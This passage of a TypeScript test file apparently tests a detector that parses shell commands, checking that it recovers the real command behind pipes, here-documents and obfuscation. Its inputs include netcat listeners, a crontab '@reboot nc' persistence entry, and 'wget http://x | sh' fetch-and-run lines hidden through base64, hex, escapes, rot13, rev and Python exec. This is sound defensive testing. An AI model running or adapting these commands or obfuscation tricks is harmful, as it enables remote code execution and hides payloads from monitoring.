      ['{ echo "nc -l 7" >/dev/stdout; } | sh', '/usr/bin/nc | nc -l 7'],
      ['echo "nc -l 8" 2>/dev/null | sh', '/usr/bin/nc | nc -l 8'],
    ] as const)
      it(text, () => assertView(script(text), view));

    for (const text of [
      '(echo "nc -l 1"); (true) | sh',
      '{ echo "nc -l 1" > /root/notes; true; } | sh',
      'echo "nc -l 1" >/dev/null; { true; } | sh',
      ') | sh; echo "nc -l 1"',
      "(echo '# nc -l 1') | crontab -",
    ])
      it(`ignore the output of ${text}`, () =>
        assert.ok(!shownViews(script(text)).includes('/usr/bin/nc | nc -l 1'), text));
  });

  describe('views of here-documents', () => {
    for (const [text, view] of [
      ['cat > /etc/x <<EOF\na b\n c\nEOF', '/usr/bin/echo | echo a b c > /etc/x'],
      ["cat <<'EOF' >> /etc/x\n$a\nEOF", '/usr/bin/echo | echo $a >> /etc/x'],
      ['tee -a /etc/x <<EOF\na\nEOF\nid', '/usr/bin/bash | bash -c echo a | tee -a /etc/x; id'],
      ['cat <<EOF | crontab -\n@reboot nc -l 1\nEOF', '/usr/bin/nc | nc -l 1'],
      ["python3 - <<'EOF'\nimport os\nos.getuid()\nEOF", '/usr/bin/python3 | python3 -c import os os.getuid()'],
      ['perl <<< "print 1"', '/usr/bin/perl | perl -e print 1'],
      ['cat <<EOF < /etc/y > /etc/x\na\nEOF', '/usr/bin/cat | cat /etc/y'],
      ['cat 3<<EOF < /etc/y > /etc/x\na\nEOF', '/usr/bin/cat | cat /etc/y'],
      ['cat < /etc/y <<EOF > /etc/x\na\nEOF', '/usr/bin/echo | echo a < /etc/y > /etc/x'],
      ['cat /etc/y - <<EOF > /etc/x\na\nEOF', '/usr/bin/cat | cat /etc/y - << EOF > /etc/x'],
    ] as const)
      it(text, () => assertView(script(text), view));
  });

  it('include a script with quotes around it, as lines are often recorded', () => {
    for (const commandLine of [
      'bash -c "wget http://x; id"',
      'sudo sh -c "wget http://x; id"',
      'su -c "wget http://x; id"',
    ]) {
      assertView(withoutWords(start(commandLine)), '/usr/bin/wget | wget http://x');
    }
  });

  describe('views of decoded text', () => {
    const plain = 'wget http://x | sh';
    const base64 = Buffer.from(plain).toString('base64');
    const hex = Buffer.from(plain).toString('hex');
    const escapes = [...plain].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    const cases = [
      `echo ${base64} | base64 -d | sh`,
      `echo ${base64}|base64 --decode|bash`,
      `base64 -d <<< ${base64} | sh`,
      `sh -c "$(echo ${base64} | base64 -d)"`,
      `eval $(echo ${base64} | base64 -d)`,
      `bash <<< $(base64 -d <<< ${base64})`,
      `echo ${hex} | xxd -r -p | sh`,
      `printf '${escapes}' | sh`,
      `echo -e '${escapes}' | sh`,
      `echo '${[...plain].reverse().join('')}' | rev | sh`,
      `echo 'jtrg uggc://k | fu' | tr 'a-z' 'n-za-m' | sh`,
      `echo ${base64} | base64 -d > /tmp/x; sh /tmp/x`,
      `python3 -c "import os,base64;os.system(base64.b64decode('${base64}'))"`,
      `python3 -c "exec(__import__('base64').b64decode('${Buffer.from(`import os;os.system("${plain}")`).toString('base64')}'))"`,
    ];
    for (const text of cases) {
      it(text, () => {
        assertView(script(text), '/usr/bin/wget | wget http://x');
        assertView(script(text), `/usr/bin/sh | sh -c ${plain}`);
      });
    }
  });
});

it('shares few object shapes across all starts', () => {
  // In a process of its own: V8 stops sharing shapes after 1,536 kinds of objects, which many tests in one process exceed.
  const printed = execFileSync(process.execPath, ['dist/test/agent/detections/views/print-shapes.js'], {
    encoding: 'utf8',
  });
  const changes = JSON.parse(printed) as number[];
  assert.equal(changes.length, 6);
  for (const each of changes) assert.ok(each < 10, printed);
});
